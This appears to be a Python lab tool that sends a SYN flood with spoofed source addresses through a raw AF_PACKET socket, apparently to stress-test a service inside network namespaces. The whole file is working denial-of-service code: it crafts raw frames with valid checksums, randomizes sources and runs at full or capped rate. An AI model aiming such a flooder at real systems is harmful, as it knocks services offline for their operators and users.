# SPDX-License-Identifier: Apache-2.0
"""A SYN flood for the lab, sent from a lab namespace through an AF_PACKET socket:

  ip netns exec fl-client /usr/bin/python3 -I syn_flood.py --target 192.0.2.26:8774 \\
      --dst-mac 02:00:00:00:02:02 --flows 200000 --seconds 30

SYNs from random source addresses of the documentation ranges 198.51.100.0/24 and
203.0.113.0/24 and random source ports (--flows distinct pairs, built before the clock starts,
with valid IPv4 and TCP checksums), sent round-robin for --seconds (and at most --max-packets),
as fast as the socket takes them or at --pps. Nothing can leave the lab: the replies go to
addresses nobody in the lab holds, and the namespaces forward nothing. Prints {"started": T}
(time.monotonic()) when the first SYN goes out, and at the end
{"sent": N, "seconds": S, "pps": R, "distinct": D}.
"""

import argparse
import json
import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s & 0xffff) + (s >> 16)
    s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff


def syn_frame(dst_mac, src_mac, src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), seq & 0xffff, 0x4000, 64, 6, 0,
                     src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    frame = dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip + tcp
    return frame + b"\0" * (60 - len(frame))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--target", required=True, help="VIP:PORT")
    p.add_argument("--dst-mac", required=True)
    p.add_argument("--iface", default="eth0")
    p.add_argument("--flows", type=int, default=200000)
    p.add_argument("--seconds", type=float, default=30.0)
    p.add_argument("--max-packets", type=int, default=50_000_000)
    p.add_argument("--pps", type=int, default=0, help="rate cap (0: as fast as possible)")
    args = p.parse_args()
    host, _, port = args.target.rpartition(":")
    with open("/sys/class/net/%s/address" % args.iface) as f:
        src_mac = bytes.fromhex(f.read().strip().replace(":", ""))
    dst_mac = bytes.fromhex(args.dst_mac.replace(":", ""))
    dst = socket.inet_aton(host)
    rng = random.Random(8774)
    pairs = set()
    nets = ((198, 51, 100), (203, 0, 113))
    flows = min(args.flows, 2 * 254 * 64000)
    while len(pairs) < flows:
        a, b, c = nets[rng.randrange(2)]
        pairs.add((bytes((a, b, c, rng.randrange(1, 255))), rng.randrange(1024, 65536)))
    frames = [syn_frame(dst_mac, src_mac, src, dst, sport, int(port), rng.getrandbits(32))
              for src, sport in pairs]

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((args.iface, 0))
    sent = 0
    send = s.send
    n = len(frames)
    t0 = time.monotonic()
    print(json.dumps({"started": round(t0, 6)}), flush=True)
    deadline = t0 + args.seconds
    try:
        while sent < args.max_packets:
            for i in range(0, n, 256):
                for fr in frames[i:i + 256]:
                    try:
                        send(fr)
                        sent += 1
                    except BlockingIOError:
                        pass
                    except OSError:
                        time.sleep(0.0005)  # ENOBUFS: the veth queue is full
                now = time.monotonic()
                if now >= deadline:
                    raise StopIteration
                if args.pps:
                    ahead = sent / args.pps - (now - t0)
                    if ahead > 0:
                        time.sleep(ahead)
    except StopIteration:
        pass
    elapsed = time.monotonic() - t0
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 2),
                      "pps": int(sent / elapsed) if elapsed > 0 else 0, "distinct": n}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
